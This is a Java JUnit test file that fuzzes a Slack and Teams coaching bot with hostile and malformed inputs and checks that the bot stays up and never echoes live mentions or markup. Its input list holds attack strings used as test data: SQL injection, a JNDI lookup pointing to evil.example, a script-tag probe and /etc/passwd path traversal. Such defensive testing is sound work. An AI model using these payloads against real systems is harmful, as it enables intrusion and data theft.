package com.claritycoach.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.claritycoach.app.serve.CoachServer;
import com.claritycoach.app.serve.TwoQuestions;
import com.claritycoach.app.config.ServeConfig;
import com.claritycoach.core.domain.Answer;
import com.claritycoach.core.domain.Platform;
import com.claritycoach.core.domain.TeamRef;
import com.claritycoach.core.domain.TenantRef;
import com.claritycoach.core.store.jdbc.CoachStores;
import com.claritycoach.core.store.jdbc.DatabaseConfig;
import com.claritycoach.core.store.jdbc.JdbcCoachStore;
import com.claritycoach.slack.SlackAdapter;
import com.claritycoach.slack.SlackOptions;
import com.claritycoach.slack.testing.FakeSlackApi;
import com.claritycoach.slack.testing.SignedSlackClient;
import com.claritycoach.slack.testing.SlackBlocks;
import com.claritycoach.teams.TeamsOptions;
import com.claritycoach.teams.testing.ActivityClient;
import com.claritycoach.teams.testing.FakeBotConnector;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Supplier;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * More than two hundred hostile or broken inputs through Slack's and Teams' real HTTP endpoints and the
 * console, on one running {@code serve}: nothing answers 5xx, nothing the coach sends carries a live
 * mention or markup taken from member text, the server stays healthy, and answers given before are
 * intact.
 */
class BadInputCorpusTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String SECRET = "8f742231b10e8888abcd99yyyzzz85a5";
    private static final String SLACK_CHANNEL = "C0TEAM0001";
    private static final String TEAMS_TENANT = "72f988bf-0000-4000-8000-0000000000aa";
    private static final String TEAMS_CHANNEL = "19:partsteam0001@thread.tacv2";
    private static final String TEAMS_ROOT = "19:partsteamroot@thread.tacv2";
    private static final String TEAMS_MARIA = "29:1MgrMariaAadObjectIdxxxxxxxxxxxxxxxxxxxxxxxxxxx";
    private static final String TEAMS_ANA = "29:1AnaAadObjectIdxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx";
    private static final String EARLIER_ANSWER = "Mechanics who fit the part the first time";

    /** What members might type: empty, huge, control characters, other scripts, code, and injection attempts. */
    static final List<String> TEXTS = List.of("", " ", "\t", "\n\n\n", "\u0000", "before\u0000after",
            "\u0007\u001b[31mred\u001b[0m", "\u202Eevil\u202C", "\uFEFFbom", "x".repeat(5_000), "y".repeat(60_000),
            "العميل النهائي هو المريض", "הלקוח הסופי", "顾客是修理工", "🧑‍🔧 the mechanic 🔧👍🏽", "\uD83D",
            "'; DROP TABLE answers; --", "1' OR '1'='1", "Robert'); DELETE FROM teams;--",
            "<!channel> everyone look", "<!here>", "<!everyone>", "<!subteam^S0123|@leads>", "<@U0ANA0001> ping",
            "<#C0TEAM0001>", "<https://evil.example|click me>", "*bold* _italic_ ~strike~ `code` ```block```",
            "<at>Everyone</at>", "[win a prize](https://evil.example)", "![x](https://evil.example/x.png)",
            "&lt;!channel&gt;", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "%s%n%x%d",
            "../../../../etc/passwd", "{{7*7}}", "null", "help", "skip", "forget me", "/coach export");
    private static final List<String> LIVE_MARKUP = List.of("<!channel>", "<!here>", "<!everyone>", "<!subteam",
            "<@U0ANA0001>", "<https://evil.example");

    @TempDir
    Path dir;
    private FakeSlackApi slack;
    private FakeBotConnector teams;
    private CoachServer server;
    private SignedSlackClient slackClient;
    private ActivityClient teamsClient;
    private final List<Integer> statuses = new ArrayList<>();
    private int events;

    @BeforeEach
    void start() {
        slack = new FakeSlackApi()
                .user("U0MGR0001", "Maria", "Europe/Lisbon", false, false, false)
                .user("U0ANA0001", "Ana", "America/Sao_Paulo", false, false, false)
                .channel(SLACK_CHANNEL, List.of("U0MGR0001", "U0ANA0001", "U0COACHBOT"));
        teams = new FakeBotConnector().roster(TEAMS_ROOT, List.of(TEAMS_MARIA + "=Maria Costa", TEAMS_ANA + "=Ana Lima"));
        ServeConfig config = new ServeConfig(0, database(), null,
                Optional.of(new SlackOptions("xoxb-test-0000000000", SECRET, null, slack.apiUrl(), null, null, null)),
                Optional.of(TeamsOptions.development()), Optional.empty());
        server = CoachServer.start(config, TwoQuestions.catalog(), Clock.systemUTC(), "127.0.0.1");
        slackClient = new SignedSlackClient(url(SlackAdapter.EVENTS_PATH), SECRET);
        teamsClient = new ActivityClient(url(TeamsOptions.MESSAGES_PATH), teams.serviceUrl());
    }

    @AfterEach
    void stop() {
        server.close();
        slack.close();
        teams.close();
    }

    @Test
    void hostileInputNeverBreaksTheCoachOrLeaksMarkup() throws Exception {
        slackCommand("U0MGR0001", "start");
        slack.await(c -> "chat.postMessage".equals(c.method()) && "DU0ANA0001".equals(c.param("channel"))
                && c.param("text").contains("Question 1 of 2"), Duration.ofSeconds(30));
        record(slackClient.postJson(slackDm("U0ANA0001", EARLIER_ANSWER)));
        teamsCommand(TEAMS_MARIA, "start");
        teams.await(c -> c.isActivity() && c.shown().contains("Question 1 of 2")
                && FakeBotConnector.chatWith(TEAMS_ANA).equals(c.conversationId()), Duration.ofSeconds(30));
        record(teamsClient.post(teamsPersonal(TEAMS_ANA, EARLIER_ANSWER)));

        int sent = 0;
        for (int i = 0; i < TEXTS.size(); i++) {
            String text = TEXTS.get(i);
            String stranger = String.format("U0X%06d", i);
            record(slackClient.postJson(slackDm(stranger, text)));
            record(slackCommandAs(stranger, "D" + stranger, text));
            record(teamsClient.post(teamsPersonal("29:stranger-" + i, text)));
            record(teamsGroupChatCommand("29:stranger-" + i, "19:chat-" + i + "@thread.v2", text));
            sent += 4;
        }
        for (Supplier<HttpResponse<String>> broken : brokenSlackRequests()) {
            record(broken.get());
            sent++;
        }
        for (Supplier<HttpResponse<String>> broken : brokenTeamsRequests()) {
            record(broken.get());
            sent++;
        }
        sent += console();

        assertThat(sent).isGreaterThanOrEqualTo(200);
        assertThat(statuses).hasSize(2 + sent - TEXTS.size()).allSatisfy(status -> assertThat(status).isLessThan(500));
        awaitOutboxDrained();
        assertThat(slack.calls()).filteredOn(c -> c.method().startsWith("chat.")).allSatisfy(call -> {
            assertThat(call.param("text")).doesNotContain(LIVE_MARKUP);
            SlackBlocks blocks = SlackBlocks.of(call.param("blocks"));
            assertThat(String.join("\n", blocks.parsed())).doesNotContain(LIVE_MARKUP)
                    .doesNotContain("*bold*", "_italic_", "~strike~", "`code`", "https://evil.example");
            assertThat(blocks.styled()).isEmpty();
        });
        assertThat(teams.activities()).allSatisfy(call -> {
            assertThat(call.body().toString()).doesNotContain("\"mention\"");
            for (JsonNode block : call.body().at("/attachments/0/content/body")) {
                if ("TextBlock".equals(block.path("type").asText())) {
                    assertThat(block.path("text").asText()).doesNotContain("<at>", "](", "<script");
                }
            }
        });
        assertThat(slackClient.get(url("/healthz"), Map.of()).statusCode()).isEqualTo(200);
        assertThat(storedAnswers(new TeamRef(new TenantRef(Platform.SLACK, "T0CLARITY"), SLACK_CHANNEL), "U0ANA0001"))
                .containsExactly(EARLIER_ANSWER);
        assertThat(storedAnswers(new TeamRef(new TenantRef(Platform.TEAMS, TEAMS_TENANT), TEAMS_CHANNEL), TEAMS_ANA))
                .containsExactly(EARLIER_ANSWER);
    }

    /** Bodies Slack would never send, all signed so that they reach the parsing. */
    private List<Supplier<HttpResponse<String>>> brokenSlackRequests() {
        List<Supplier<HttpResponse<String>>> requests = new ArrayList<>();
        for (String body : brokenJson()) {
            requests.add(() -> slackClient.postJson(body));
        }
        requests.add(() -> slackClient.post("{\"type\":\"event_callback\"}", "text/plain", java.time.Instant.now(), Map.of()));
        requests.add(() -> slackClient.post("<xml/>", "application/xml", java.time.Instant.now(), Map.of()));
        requests.add(() -> slackClient.postForm("payload=%7Bnot-json"));
        requests.add(() -> slackClient.postForm("command=%2Fcoach&text=start"));
        requests.add(() -> slackClient.postJson(eventOfType("reaction_added")));
        requests.add(() -> slackClient.postJson(eventOfType("team_join")));
        requests.add(() -> slackClient.postJson(eventOfType("no_such_event_type")));
        requests.add(() -> slackClient.postJson("{\"type\":\"no_such_envelope\"}"));
        requests.add(() -> slackClient.postJson(slackDm("U0ANA0001", "z".repeat(300_000))));
        requests.add(() -> slackClient.postBytes(invalidUtf8(slackDm("U0ANA0001", "INVALID")), "application/json"));
        requests.add(() -> slackClient.postBytes(invalidUtf8(
                "command=%2Fcoach&user_id=U0ANA0001&channel_id=C0TEAM0001&text=INVALID"), "application/x-www-form-urlencoded"));
        return requests;
    }

    /** Bodies Teams would never send. */
    private List<Supplier<HttpResponse<String>>> brokenTeamsRequests() {
        List<Supplier<HttpResponse<String>>> requests = new ArrayList<>();
        for (String body : brokenJson()) {
            requests.add(() -> teamsClient.post(body, "application/json"));
        }
        requests.add(() -> teamsClient.post(new byte[] {'{', '"', 't', '"', ':', '"', (byte) 0xFF, (byte) 0xFE, '"', '}'},
                "application/json"));
        requests.add(() -> teamsClient.post(teamsPersonal(TEAMS_ANA, "hi").toString(), "text/plain"));
        requests.add(() -> teamsClient.post(teamsPersonal(TEAMS_ANA, "hi").toString(), null));
        requests.add(() -> teamsClient.post(teamsClient.fixture("personal_message", a -> a.put("type", "invoke"))));
        requests.add(() -> teamsClient.post(teamsClient.fixture("personal_message", a -> a.put("type", "typing"))));
        requests.add(() -> teamsClient.post(teamsClient.fixture("personal_message", a -> a.put("type", "no-such-type"))));
        requests.add(() -> teamsClient.post(teamsClient.fixture("personal_message", a -> a.remove("from"))));
        requests.add(() -> teamsClient.post(teamsClient.fixture("personal_message", a -> a.remove("conversation"))));
        requests.add(() -> teamsClient.post(teamsClient.fixture("personal_message", a -> a.put("serviceUrl", "ftp://x"))));
        requests.add(() -> teamsClient.post(teamsClient.fixture("adaptive_card_submit", a -> a.put("value", "not-an-object"))));
        requests.add(() -> teamsClient.post(teamsClient.fixture("conversation_update_bot_added",
                a -> a.putArray("membersAdded").addObject())));
        requests.add(() -> teamsClient.post(teamsPersonal(TEAMS_ANA, "z".repeat(300_000))));
        return requests;
    }

    /** The text with the word INVALID replaced by bytes that are not UTF-8 (a lone continuation byte, an overlong form). */
    private static byte[] invalidUtf8(String text) {
        String[] parts = text.split("INVALID", 2);
        byte[] head = parts[0].getBytes(StandardCharsets.UTF_8);
        byte[] tail = parts[1].getBytes(StandardCharsets.UTF_8);
        byte[] bad = {(byte) 0x80, (byte) 0xC0, (byte) 0xAF, (byte) 0xFF};
        byte[] all = new byte[head.length + bad.length + tail.length];
        System.arraycopy(head, 0, all, 0, head.length);
        System.arraycopy(bad, 0, all, head.length, bad.length);
        System.arraycopy(tail, 0, all, head.length + bad.length, tail.length);
        return all;
    }

    private static List<String> brokenJson() {
        return List.of("", "{", "}", "[]", "null", "42", "\"text\"", "{\"type\":}", "{\"type\":\"message\",}",
                "[".repeat(5_000) + "]".repeat(5_000), "{\"a\":".repeat(2_000) + "1" + "}".repeat(2_000),
                "{\"type\":\"event_callback\",\"event\":\"not-an-object\"}", "\u0000\u0000\u0000");
    }

    /** The same texts typed in the console; returns how many lines were typed. */
    private int console() {
        StringBuilder input = new StringBuilder("as ana\nas bo\nas maria\n/coach start\nas ana\n" + EARLIER_ANSWER + "\nas bo\n");
        for (String text : TEXTS) {
            input.append(text.replace('\n', ' ')).append('\n');
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int exit = new ConsoleCommand(new ByteArrayInputStream(input.toString().getBytes(StandardCharsets.UTF_8)), false)
                .run(new String[] {"--db", dir.resolve("console.db").toString()}, new PrintStream(out, true, StandardCharsets.UTF_8),
                        new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8));
        assertThat(exit).isZero();
        String again = consoleRun("as ana\nmy answers\n");
        assertThat(again).contains(EARLIER_ANSWER);
        return TEXTS.size();
    }

    private String consoleRun(String input) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new ConsoleCommand(new ByteArrayInputStream(input.getBytes(StandardCharsets.UTF_8)), false)
                .run(new String[] {"--db", dir.resolve("console.db").toString()}, new PrintStream(out, true, StandardCharsets.UTF_8),
                        new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8));
        return out.toString(StandardCharsets.UTF_8);
    }

    private void record(HttpResponse<String> response) {
        statuses.add(response.statusCode());
    }

    private void slackCommand(String user, String text) {
        HttpResponse<String> response = slackCommandAs(user, SLACK_CHANNEL, text);
        assertThat(response.statusCode()).isEqualTo(200);
    }

    /** Commands from strangers come from their own conversations, so replies are not paced behind each other. */
    private HttpResponse<String> slackCommandAs(String user, String channel, String text) {
        String form = SignedSlackClient.fixture("slash_command_start.txt")
                .replace("user_id=U0MGR0001", "user_id=" + user)
                .replace("channel_id=C0TEAM0001", "channel_id=" + channel)
                .replace("text=start+discovery", "text=" + URLEncoder.encode(text, StandardCharsets.UTF_8))
                .replaceAll("trigger_id=[^&]*", "trigger_id=trigger-" + (++events));
        return slackClient.postForm(form);
    }

    private String slackDm(String user, String text) {
        ObjectNode envelope = JSON.createObjectNode().put("token", "XXYYZZ").put("team_id", "T0CLARITY")
                .put("api_app_id", "A0COACH01").put("type", "event_callback").put("event_id", "Ev0CORPUS" + (++events))
                .put("event_time", 1763870400);
        envelope.putArray("authorizations").addObject().putNull("enterprise_id").put("team_id", "T0CLARITY")
                .put("user_id", "U0COACHBOT").put("is_bot", true).put("is_enterprise_install", false);
        envelope.putObject("event").put("type", "message").put("channel", "D" + user).put("user", user)
                .put("text", text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"))
                .put("ts", "1763870400." + String.format("%06d", events)).put("channel_type", "im").put("team", "T0CLARITY");
        return envelope.toString();
    }

    private String eventOfType(String type) {
        ObjectNode envelope = (ObjectNode) readTree(slackDm("U0ANA0001", "x"));
        ((ObjectNode) envelope.get("event")).put("type", type);
        return envelope.toString();
    }

    private HttpResponse<String> teamsCommand(String from, String text) {
        ObjectNode activity = teamsClient.fixture("channel_message_mention", a -> {
            a.put("text", "<at>Clarity Coach</at> " + text);
            a.with("from").put("id", from);
            a.with("conversation").put("id", TEAMS_CHANNEL + ";messageid=" + a.get("id").asText());
        });
        return teamsClient.post(activity);
    }

    private HttpResponse<String> teamsGroupChatCommand(String from, String chat, String text) {
        ObjectNode activity = teamsClient.fixture("channel_message_mention", a -> {
            a.put("text", "<at>Clarity Coach</at> " + text);
            a.with("from").put("id", from);
            a.with("conversation").put("id", chat).put("conversationType", "groupChat");
            a.putObject("channelData").putObject("tenant").put("id", TEAMS_TENANT);
        });
        return teamsClient.post(activity);
    }

    private ObjectNode teamsPersonal(String from, String text) {
        return teamsClient.fixture("personal_message", a -> {
            a.put("text", text);
            a.with("from").put("id", from);
            a.with("conversation").put("id", FakeBotConnector.chatWith(from));
        });
    }

    private void awaitOutboxDrained() throws Exception {
        long deadline = System.nanoTime() + Duration.ofSeconds(120).toNanos();
        while (System.nanoTime() < deadline) {
            try (JdbcCoachStore store = CoachStores.open(database()); Connection c = store.dataSource().getConnection();
                 Statement s = c.createStatement();
                 ResultSet rs = s.executeQuery("SELECT COUNT(*) FROM outbox WHERE sent_at IS NULL AND NOT abandoned")) {
                rs.next();
                if (rs.getInt(1) == 0) {
                    return;
                }
            }
            Thread.sleep(500);
        }
        throw new AssertionError("the outbox did not drain within two minutes");
    }

    private List<String> storedAnswers(TeamRef team, String member) {
        try (JdbcCoachStore store = CoachStores.open(database())) {
            return store.read(tx -> tx.currentAnswers(
                            tx.latestCheckIn(tx.findTeam(team).orElseThrow().id()).orElseThrow().id()))
                    .stream().filter(a -> a.member().userId().equals(member)).map(Answer::text).toList();
        }
    }

    private static JsonNode readTree(String json) {
        try {
            return JSON.readTree(json);
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private String url(String path) {
        return "http://127.0.0.1:" + server.port() + path;
    }

    private DatabaseConfig database() {
        return new DatabaseConfig("jdbc:sqlite:" + dir.resolve("coach.db"), null, null);
    }
}
